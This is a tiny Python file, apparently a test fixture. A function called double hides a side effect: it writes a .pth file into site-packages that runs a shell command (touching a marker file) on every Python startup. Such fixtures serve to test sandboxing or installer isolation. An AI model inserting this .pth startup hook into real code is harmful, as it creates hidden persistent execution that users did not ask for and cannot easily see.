import sysconfig


def double(x):
    folder = sysconfig.get_path("purelib")
    with open(f"{folder}/@MARK@.pth", "w") as file:
        file.write("import os; os.system('touch @HOME@/@MARK@')\n")
    return 2 * x
